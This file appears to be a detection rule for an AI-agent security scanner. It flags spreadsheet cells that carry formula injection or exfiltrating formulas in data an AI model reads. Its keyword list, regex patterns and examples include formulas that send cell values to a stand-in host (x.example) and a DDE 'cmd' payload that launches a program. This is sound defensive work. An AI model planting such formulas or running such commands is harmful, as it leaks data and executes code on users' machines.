import { DATA_KINDS, scan } from "oktsec/evidence";
import { defineRule } from "oktsec/rule";

export default defineRule({
  id: "INDIRECT_110",
  title: "A cell of a sheet gives orders or reaches out",
  why: "A table looks like numbers; one cell in it can speak to the model or fetch an address with the row in it.",
  fix: "Read values only, without formulas, and check text cells like any text.",
  severity: "high",
  category: "indirect-injection",
  lane: "flag",
  maps: { asi: ["ASI01"], mcp: ["MCP06"], cwe: ["CWE-1236", "CWE-1427"] },
  reads: DATA_KINDS,
  keywords: [
    "=importxml",
    "=importdata",
    "=importhtml",
    "=importrange",
    "=webservice",
    "=hyperlink",
    "=image",
    "=cmd",
    "+cmd",
    "-cmd",
    "@cmd",
    "=dde",
    "=msexcel",
    "=rundll32",
    "=powershell",
  ],
  match: [
    scan(
      /(?:^|[\n,;|\t"])\s{0,2}[=+@-](?:IMPORT(?:XML|DATA|HTML|RANGE|FEED)|WEBSERVICE|HYPERLINK|IMAGE)\s{0,2}\(\s{0,2}(?:CONCAT(?:ENATE)?\s{0,2}\(\s{0,2})?["']{1,2}https?:[^\n]{0,160}?(?:&|,|CONCAT|\?)[^\n]{0,60}?\$?[A-Z]{1,2}\$?\d{1,4}\b/i,
      () => true,
    ),
    scan(/(?:^|[\n,;|\t"])\s{0,2}[=+@-]\s{0,2}(?:cmd|DDE|MSEXCEL|rundll32|powershell)\s{0,2}[|('"!]/i, () => true),
  ],
  examples: {
    flags: [{ text: 'name,total\nAda,=IMPORTXML("https://x.example/?d="&B2,"//a")', kind: "tool_result" }, {
      text: '"=HYPERLINK(""https://x.example/c?v=""&A1,""Open"")",4',
      kind: "document",
    }, { text: "7,=cmd|' /C calc'!A0", kind: "resource" }],
    passes: [{ text: "Total,=SUM(A1:A9)", kind: "document" }, {
      text: 'site,=HYPERLINK("https://example.com")',
      kind: "tool_result",
    }, { text: "The formula IMPORTXML loads a page.", kind: "document" }],
  },
});
